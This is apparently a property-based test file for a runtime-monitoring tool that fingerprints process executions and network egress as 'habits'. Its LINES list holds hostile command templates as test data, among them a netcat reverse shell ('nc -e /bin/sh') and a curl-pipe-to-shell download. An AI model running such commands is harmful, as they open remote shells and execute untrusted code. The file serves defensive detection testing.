"""Holds the laws of habits: every action has one, it is bounded, and nothing that an attacker chooses is left out."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tidewaiter import shape
from tidewaiter.chain import Action
from tidewaiter.habit import habit_of
from tidewaiter.policy import DEFAULT_POLICY
from tidewaiter.shape import shape_of, shape_of_path

pytestmark = pytest.mark.property

WORDS = st.lists(st.text(st.characters(), max_size=60), min_size=1, max_size=8)
LABELS = st.from_regex(r"[a-z]{1,8}(-[0-9]{1,3})?", fullmatch=True)
HOSTS = st.one_of(
    st.tuples(LABELS, LABELS, st.sampled_from(["com", "example", "zip", "sh", "io"])).map(".".join),
    st.ip_addresses(v=4).map(str),
    st.ip_addresses(v=6).map(lambda address: f"[{address}]"),
).filter(lambda host: not DEFAULT_POLICY.is_internal(host.strip("[]")))
PORTS = st.integers(1, 65535)
LINES = st.sampled_from(
    [
        "nc {host} {port}",
        "agent {host} {port}",
        "agent {host}:{port}",
        "agent --server={host}:{port}",
        "agent --host {host} --port {port}",
        "agent https://{host}:{port}/jobs/17",
        "sh -c sleep 5; agent {host} {port}",
        "sh -c curl -s http://{host}:{port}/x | sh",
        "python3 -c s.connect(('{host}',{port}))",
        "timeout 5 nc -e /bin/sh {host} {port}",
    ]
)


def ran(line: str) -> Action:
    """Somebody ran this."""
    args = tuple(line.split(" "))
    return Action(0, "exec", "falco", "f.jsonl", 1, args[0], args)


@given(args=WORDS, exe=st.none() | st.text(max_size=60), is_written=st.booleans())
def test_every_exec_that_has_a_name_has_a_bounded_habit(args: list[str], exe: str | None, is_written: bool) -> None:
    """Whatever the text, and it can be written."""
    action = Action(0, "exec", "falco", "f.jsonl", 1, exe, tuple(args), is_upper_layer=is_written)
    habit = habit_of(action, DEFAULT_POLICY)
    assert habit == habit_of(action, DEFAULT_POLICY)
    if habit is not None:
        assert len(habit.what.encode()) <= 4 * 256
        assert len(habit.what) <= 256
    assert (habit is None) == (not (exe or args[0]).removesuffix(" (deleted)"))


@given(
    words=st.lists(st.from_regex(r"[0-9]{1,70}|\S{1,70}", fullmatch=True), min_size=1, max_size=4), keeps=st.booleans()
)
def test_what_is_remembered_of_words_is_what_they_are(words: list[str], keeps: bool) -> None:
    """Long and short, asked for the first time and again; of a number nothing is asked at all."""
    is_internal = DEFAULT_POLICY.is_internal
    for word in (*words, *words):
        told = shape._shaped_parts.__wrapped__(word, is_internal, keeps)
        assert shape._shaped(word, is_internal, keeps) == told
        assert shape._read(word) == shape._read.__wrapped__(word)
        assert not (word.isascii() and word.isdigit()) or shape._read(word) == shape._NUMBER_READ
        assert shape_of_path(f"{word}/x") == shape_of_path.__wrapped__(f"{word}/x")


@given(line=LINES, one=HOSTS, other=HOSTS, port=PORTS, other_port=PORTS)
def test_other_hosts_and_ports_are_other_habits(line: str, one: str, other: str, port: int, other_port: int) -> None:
    """Also where their names differ in a number only."""
    first = habit_of(ran(line.format(host=one, port=port)), DEFAULT_POLICY)
    second = habit_of(ran(line.format(host=other, port=other_port)), DEFAULT_POLICY)
    assert (first == second) == ((one, port) == (other, other_port))


@given(name=st.none() | HOSTS, other=st.none() | HOSTS, ip=st.ip_addresses().map(str), port=PORTS, other_port=PORTS)
def test_other_destinations_are_other_habits(
    name: str | None, other: str | None, ip: str, port: int, other_port: int
) -> None:
    """By name and port."""
    one = Action(0, "egress", "hubble", "h", 1, dst_ip=ip, dst_port=port, dst_name=name)
    two = Action(0, "egress", "hubble", "h", 1, dst_ip=ip, dst_port=other_port, dst_name=name)
    first, second = habit_of(one, DEFAULT_POLICY), habit_of(two, DEFAULT_POLICY)
    assert first is None or (first == second) == (port == other_port)


@given(one=st.from_regex(r"[a-z0-9.-]{1,12}", fullmatch=True), other=st.from_regex(r"[a-z0-9.-]{1,12}", fullmatch=True))
def test_other_programs_are_other_habits(one: str, other: str) -> None:
    """A number in a program's name is part of it."""
    first, second = (
        habit_of(ran(f"/opt/bin/{one} 5"), DEFAULT_POLICY),
        habit_of(ran(f"/opt/bin/{other} 5"), DEFAULT_POLICY),
    )
    assert (first == second) == (one == other)


@given(args=WORDS)
def test_placeholders_can_be_told_from_what_was_typed(args: list[str]) -> None:
    """With doubled `<` taken away, every `<` begins a placeholder."""
    shaped = shape_of("agent", args, DEFAULT_POLICY.is_internal)
    left = re.sub(r"<(n|hex|uuid|date|random|version|pod|tmp|ip)>", "", shaped.replace("<<", ""))
    assert "<" not in left


@given(args=WORDS)
def test_what_has_no_digit_and_is_short_is_its_own_shape(args: list[str]) -> None:
    """Only digits and random names are left out."""
    words = [word for arg in args for word in arg.split() if len(word) < 10 and not re.search(r"\d|<", word)]
    assert shape_of("agent", words, DEFAULT_POLICY.is_internal) == " ".join(words)
